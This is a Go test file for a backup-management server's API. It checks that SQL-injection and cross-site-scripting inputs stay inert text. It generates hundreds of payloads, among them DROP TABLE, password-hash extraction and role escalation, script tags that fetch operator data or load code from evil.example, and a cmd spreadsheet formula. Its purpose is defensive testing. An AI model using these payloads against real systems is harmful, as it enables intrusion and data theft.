//go:build !race

package api

import (
	"encoding/json"
	"fmt"
	"maps"
	"mime"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"restic-manager/shared/wire"
)

// injections are texts that break out of a statement where one is put together from text: for SQLite, PostgreSQL and
// what else a scanner tries.
func injections() []string {
	var all []string
	for _, q := range []string{"'", "\"", "`", "')", "\")", "'))", "", "\\", "%27", "$$", "$1", "];", "};", "x'"} {
		for _, s := range []string{" OR 1=1 --", " OR '1'='1", "; DROP TABLE hosts; --", " UNION SELECT NULL,NULL,NULL --", " AND 1=(SELECT count(*) FROM operators) --", "; SELECT pg_sleep(30) --",
			" || (SELECT password_hash FROM operators LIMIT 1) || ", " AND randomblob(1000000000) --", "/**/OR/**/TRUE#", " ORDER BY 99 --", "; ATTACH DATABASE '/tmp/x' AS x; --", "; COPY operators TO '/tmp/x'; --",
			" LIMIT 1 OFFSET (SELECT 1/0) --", "; UPDATE operators SET role='administrator' --", " COLLATE nosuch"} {
			all = append(all, q+s)
		}
	}
	return append(all, "id", "id DESC", "password_hash", "1 OR 1=1", "-1", "0x41", "NULL", "true", "id;--", "(SELECT 1)", "CASE WHEN 1=1 THEN id ELSE name END", "%", "_", "!%", "?", "??", ":id", "@id", "{}", "[]", "\\x00", "1e309", strings.Repeat("'", 200))
}

// Whatever a parameter of a query, a path or a header holds, it is compared and never understood: no call fails by it,
// none answers more than without, and every table stays as it was.
func TestInjectionsInParametersAreText(t *testing.T) {
	each(t, nil, func(t *testing.T, r *rig) {
		w := newWorld(r)
		w.host().running(w.admin)
		payloads := injections()
		if len(payloads) < 200 {
			t.Fatalf("%d payloads, want 200", len(payloads))
		}
		rows := map[string]*Route{}
		for _, row := range r.table() {
			rows[row.Method+" "+row.Path] = row
		}
		if err := r.fleet.Flush(t.Context()); err != nil {
			t.Fatal(err)
		}
		before := r.dump(t)
		n, parameters := 0, 0
		ask := func(q request, what string) {
			t.Helper()
			began := time.Now()
			a := r.call(q)
			if a.status >= 500 {
				t.Errorf("%s: got %d %s", what, a.status, a.body)
			}
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("%s took %s", what, took)
			}
			n++
		}
		for path, methods := range readContract(t).Paths {
			for method, op := range methods {
				row := rows[strings.ToUpper(method)+" "+path]
				if !row.Permission.signedIn() || row.ID == "logout" {
					continue
				}
				for _, p := range op.Parameters {
					parameters++
					for _, payload := range payloads {
						q := request{method: row.Method, path: row.somewhere(), as: w.admin, body: wellFormed[row.ID]}
						switch p.In {
						case "query":
							q.path += "?" + p.Name + "=" + url.QueryEscape(payload)
						case "path":
							q.path = strings.Replace(row.Path, "{"+p.Name+"}", url.PathEscape(payload), 1)
						case "header":
							q.header = http.Header{p.Name: {payload}}
						}
						ask(q, fmt.Sprintf("%s %s, %s in the %s is %q", method, path, p.Name, p.In, payload))
					}
				}
			}
		}
		agent := w.host()
		j := agent.running(w.admin)
		if err := r.fleet.Flush(t.Context()); err != nil {
			t.Fatal(err)
		}
		before = r.dump(t)
		for _, payload := range payloads {
			e := url.QueryEscape(payload)
			for _, query := range []string{"boot=" + e, "boot=" + agent.boot + "&mark=" + e, "boot=" + agent.boot + "&jobs=" + e, "boot=" + agent.boot + "&jobs=" + j.id + ":" + e, "boot=" + agent.boot + "&config=" + e + "&seq=1", "boot=" + agent.boot + "&seq=" + e} {
				ask(request{method: "GET", path: "/api/agents/next-command?wait=0&" + query, as: agent.as}, "next-command?"+query)
			}
			for _, path := range []string{"jobs/" + url.PathEscape(payload) + "/progress", "listings/" + url.PathEscape(payload) + "/commit", "jobs/" + j.id + "/log?first_line=" + e, "jobs/" + j.id + "/log?first_line=1&lines=1&sum_before=" + e} {
				ask(request{method: "POST", path: "/api/agents/" + path, as: j.as, body: `{}`}, path)
			}
			stolen := principal(maps.Clone(map[string][]string(j.as)))
			stolen[wire.HeaderLease] = []string{payload}
			ask(request{method: "POST", path: "/api/agents/jobs/" + j.id + "/progress", as: stolen, body: `{"seq":1}`}, "lease "+payload)
			ask(request{method: "POST", path: "/api/agents/hello", as: principal{"Authorization": {"Bearer " + wire.AgentTokenPrefix + payload}, wire.HeaderProtocol: {"1"}}, body: `{}`}, "bearer "+payload)
			ask(request{method: "GET", path: "/api/hosts", as: principal{"Cookie": {cookieNameInsecure + "=" + url.QueryEscape(payload)}}}, "cookie "+payload)
		}
		t.Logf("%d parameters of people, %d requests", parameters, n)
		if err := r.fleet.Flush(t.Context()); err != nil {
			t.Fatal(err)
		}
		for _, words := range changed(before, r.dump(t)) {
			if !strings.HasPrefix(words, "hosts: ") && !strings.HasPrefix(words, "jobs: ") { // signs of life
				t.Errorf("afterwards %s", words)
			}
		}
		for _, word := range []string{"syntax error", "SQL logic error", "no such column", "unrecognized token", "SQLSTATE 42", "panicked"} {
			if strings.Contains(r.words.String(), word) {
				t.Errorf("a payload reached the database as SQL: the log says %q", word)
			}
		}
	})
}

// scripts are texts that run where text is taken for markup.
func scripts() []string {
	var all []string
	for _, act := range []string{"alert(1)", "fetch('/api/operators')", "document.location='//evil.example'", "import('//evil.example/x.js')"} {
		for _, form := range []string{"<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<img src=x onerror=%s>", "<svg/onload=%s>", "\"><script>%s</script>", "'-%s-'", "</script><script>%s</script>", "<body onload=%s>", "<iframe srcdoc='<script>%s</script>'>",
			"<a href=javascript:%s>x</a>", "javascript:%s", "data:text/html,<script>%s</script>", "<math><mtext></p><style><img src onerror=%s></style>", "{{constructor.constructor('%s')()}}", "${%s}", "<!--<img src=--><img src=x onerror=%s>//",
			"<details open ontoggle=%s>", "<input autofocus onfocus=%s>", "<video><source onerror=%s>", "&lt;script&gt;%s&lt;/script&gt;", "\\u003cscript\\u003e%s\\u003c/script\\u003e", "<template><script>%s</script></template>",
			"<style>@import'//evil.example/%s';</style>", "<meta http-equiv=refresh content='0;url=javascript:%s'>", "<object data='javascript:%s'></object>", "<base href='//evil.example/'><script src=%s></script>", "=cmd|' /C %s'!A0", "<x onclick=%s>", "<marquee onstart=%s>", "]]><script>%s</script>"} {
			all = append(all, fmt.Sprintf(form, act))
		}
	}
	return all
}

// What a machine says of itself is shown as it was said, as JSON that no browser takes for a page: wherever it comes
// out again, as text of the same characters, with nosniff and a policy that runs nothing; the download is a file.
// (What the pages make of it is the dashboard's part.)
func TestTextOfMachinesStaysText(t *testing.T) {
	each(t, nil, func(t *testing.T, r *rig) {
		w := newWorld(r)
		payloads := scripts()
		if len(payloads) < 120 {
			t.Fatalf("%d payloads, want 120", len(payloads))
		}
		for _, payload := range payloads {
			host := w.host()
			h := host.helloBody()
			h.Facts.Hostname, h.Facts.OSVersion, h.Guard.Summary, h.ResticVersion, h.AgentVersion = payload, payload, payload, payload, payload
			h.Repositories = []wire.RepositoryReport{{Name: wire.RepositoryLocal, ID: sha(host.id), Location: payload}}
			var reply wire.HelloReply
			r.must(request{method: "POST", path: "/api/agents/hello", as: host.as, body: toJSON(t, h)}, &reply)
			if a := r.call(request{method: "PATCH", path: "/api/hosts/" + host.id, as: w.admin, body: toJSON(t, map[string]any{"labels": map[string]string{"note": payload}})}); a.status != 422 {
				t.Errorf("%q as a label: got %d, want 422", payload, a.status)
			}
			j := host.running(w.admin)
			line := wire.AppendRecord(nil, time.Now(), wire.StreamOut, []byte(payload), wire.MaxRecord)
			r.must(request{method: "POST", path: "/api/agents/jobs/" + j.id + "/log?" + wire.LogQuery{FirstLine: 1, Lines: 1, SumBefore: sha("")}.Encode(), as: j.as, bytes: line}, nil)
			r.must(j.request("progress", toJSON(t, wire.Progress{Seq: 1, CurrentFiles: []string{"/" + payload}})), nil)
			snapshot := toJSON(t, map[string]any{"id": sha(host.id), "time": time.Now(), "tree": sha("t"), "paths": []string{"/" + payload}, "hostname": payload, "username": payload, "tags": []string{payload}})
			zero := 1
			r.must(j.request("finish", toJSON(t, wire.FinishRequest{State: wire.StateFailed, ExitCode: &zero, Error: &wire.JobError{Code: "restic_failed", Message: payload}, Issues: []wire.Issue{{Path: payload, Message: payload}},
				StartedAt: time.Now(), EndedAt: time.Now(), LogLines: 1, LogSHA256: sha(string(line)), Listing: &wire.Listing{Token: w.listing(j), RepositoryID: sha(host.id), Snapshots: []json.RawMessage{[]byte(snapshot)}}})), nil)
			for path, times := range map[string]int{"/api/hosts/" + host.id: 4, "/api/jobs/" + j.id: 3, "/api/jobs/" + j.id + "/log": 1, "/api/hosts/" + host.id + "/snapshots?all=true": 3} {
				a := r.must(request{method: "GET", path: path, as: w.admin}, nil)
				var v any
				if err := json.Unmarshal(a.body, &v); err != nil {
					t.Fatal(err)
				}
				if got := countText(v, payload); got < times {
					t.Errorf("%s holds %q as it was said %d times, want %d: %.600s", path, payload, got, times, a.body)
				}
				if got := a.header.Get("Content-Type"); got != "application/json" {
					t.Errorf("%s: content type %q", path, got)
				}
				checkHeaders(t, path, a)
			}
			a := r.must(request{method: "GET", path: "/api/jobs/" + j.id + "/log.txt", as: w.admin}, nil)
			kind, parameters, err := mime.ParseMediaType(a.header.Get("Content-Disposition"))
			if err != nil || kind != "attachment" || parameters["filename"] != "job-"+j.id+".txt" || a.header.Get("Content-Type") != "text/plain; charset=utf-8" || !strings.Contains(string(a.body), payload) {
				t.Errorf("the download: %v, %s, %v, %.100q", kind, parameters, err, a.body)
			}
			checkHeaders(t, "log.txt", a)
		}
	})
}

// countText counts the texts in a value that hold a text.
func countText(v any, text string) (n int) {
	switch v := v.(type) {
	case string:
		if strings.Contains(v, text) {
			return 1
		}
	case []any:
		for _, e := range v {
			n += countText(e, text)
		}
	case map[string]any:
		for _, k := range slices.Sorted(maps.Keys(v)) {
			n += countText(v[k], text)
		}
	}
	return n
}
